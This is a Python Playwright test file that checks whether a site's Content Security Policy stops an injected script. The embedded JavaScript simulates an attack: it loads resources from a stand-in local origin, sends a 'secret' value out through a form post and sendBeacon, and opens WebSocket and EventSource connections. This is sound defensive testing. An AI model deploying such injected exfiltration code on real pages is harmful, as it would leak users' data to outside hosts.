"""What a script could do that had come into a page: load nothing from elsewhere, tell nobody.

That no page of ours asks for what its policy forbids, every page's test tells (`test_every_page`):
here it is seen that such a violation is a complaint of the browser, of each kind.
"""

from __future__ import annotations

import selectors
import socket
import threading
from collections.abc import Iterator
from contextlib import ExitStack
from dataclasses import dataclass, field

import pytest
from playwright.sync_api import Browser

from tests import patience
from tests.browser.conftest import Complaints, Server, watch

pytestmark = pytest.mark.browser

INJECTED = """
window.violations = [];
document.addEventListener('securitypolicyviolation',
  (event) => window.violations.push(event.effectiveDirective));
window.tried = (async () => {
  const there = 'http://127.0.0.1:PORT';
  const put = (name, values) => {
    const made = Object.assign(document.createElement(name), values);
    document.body.append(made);
    return made;
  };
  const refused = {};
  const attempt = async (name, act) => {
    try { await act(); refused[name] = false; } catch (error) { refused[name] = error.name; }
  };
  put('img', {src: `${there}/image.png`});
  put('script', {src: `${there}/script.js`});
  put('script', {type: 'module', textContent: `import '${there}/module.js'`});
  put('link', {rel: 'stylesheet', href: `${there}/style.css`});
  put('style', {textContent: `@font-face {font-family: far; src: url(${there}/far.woff2)}
    .far {font-family: far; background: url(${there}/back.png)}`});
  put('p', {className: 'far', textContent: 'far'});
  put('iframe', {src: `${there}/frame`});
  put('object', {data: `${there}/object.svg`});
  put('video', {src: `${there}/video.mp4`, preload: 'auto'});
  put('base', {href: `${there}/`});
  put('iframe', {name: 'aside'});
  const form = put('form', {action: `${there}/form`, method: 'post', target: 'aside'});
  form.append(Object.assign(document.createElement('input'), {name: 'a', value: 'secret'}));
  form.submit();
  await attempt('fetch', () => fetch(`${there}/fetch`, {mode: 'no-cors'}));
  await attempt('import', () => import(`${there}/late.js`));
  await attempt('worker', () => new Worker(`${there}/worker.js`));
  await attempt('eval', () => eval('1 + 1'));
  await attempt('function', () => new Function('return 1')());
  await attempt('websocket', () => new Promise((open, close) => {
    const socket = new WebSocket(there.replace('http', 'ws'));
    socket.onopen = open;
    socket.onerror = () => close(new Error('closed'));
  }));
  await attempt('events', () => new Promise((open, close) => {
    const events = new EventSource(`${there}/events`);
    events.onopen = open;
    events.onerror = () => close(new Error('closed'));
  }));
  navigator.sendBeacon(`${there}/beacon`, 'secret');
  return refused;
})();
"""
DIRECTIVES = {
    "img-src",
    "script-src-elem",
    "style-src-elem",
    "font-src",
    "frame-src",
    "object-src",
    "media-src",
    "base-uri",
    "form-action",
    "connect-src",
    "script-src",
}


@dataclass
class Elsewhere:
    """Another origin: a port of this machine, and all that it ever was told."""

    port: int
    told: list[str] = field(default_factory=list)


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    over = threading.Event()
    with socket.create_server(("127.0.0.1", 0)) as listening, ExitStack() as callers:
        open_ones: dict[int, socket.socket] = {}
        found = Elsewhere(listening.getsockname()[1])
        ready = callers.enter_context(selectors.DefaultSelector())
        ready.register(listening, selectors.EVENT_READ)

        def listen() -> None:
            while not over.is_set():
                for key, _ in ready.select(0.1):
                    if key.fileobj is listening:
                        # Chromium connects in advance, before it knows that it may not ask.
                        caller = callers.enter_context(listening.accept()[0])
                        open_ones[caller.fileno()] = caller
                        ready.register(caller, selectors.EVENT_READ)
                    else:
                        caller = open_ones.pop(key.fd)
                        ready.unregister(caller)
                        with caller:
                            said = caller.recv(200).decode("latin-1")
                        found.told.extend([said] if said else [])

        thread = threading.Thread(target=listen, daemon=True)
        thread.start()
        yield found
        over.set()
        thread.join(patience.SECONDS)


def test_an_injected_script_reaches_no_other_machine_and_makes_no_program_of_a_text(
    browser: Browser, server: Server, elsewhere: Elsewhere
) -> None:
    complaints = Complaints()
    context = browser.new_context(bypass_csp=False)
    page = context.new_page()
    watch(page, server, complaints)
    page.goto(server.url)
    page.wait_for_selector(".lb-footer", state="attached")
    assert complaints.found == []
    # As a script in the page's own markup: Playwright's evaluating is above the policy.
    page.evaluate(
        "text => { const script = document.createElement('script'); script.textContent = text;"
        " document.head.append(script); }",
        INJECTED.replace("PORT", str(elsewhere.port)),
    )
    refused = page.evaluate("window.tried")
    assert elsewhere.told == []
    patience.wait_until(lambda: set(page.evaluate("window.violations")) >= DIRECTIVES)
    context.close()
    assert elsewhere.told == []
    assert [name for name, how in refused.items() if not how] == []
    assert (refused["eval"], refused["function"]) == ("EvalError", "EvalError")
    told = " ".join(one for one in complaints.found if "Content Security Policy" in one)
    assert [one for one in DIRECTIVES if one.removesuffix("-elem") not in told] == []
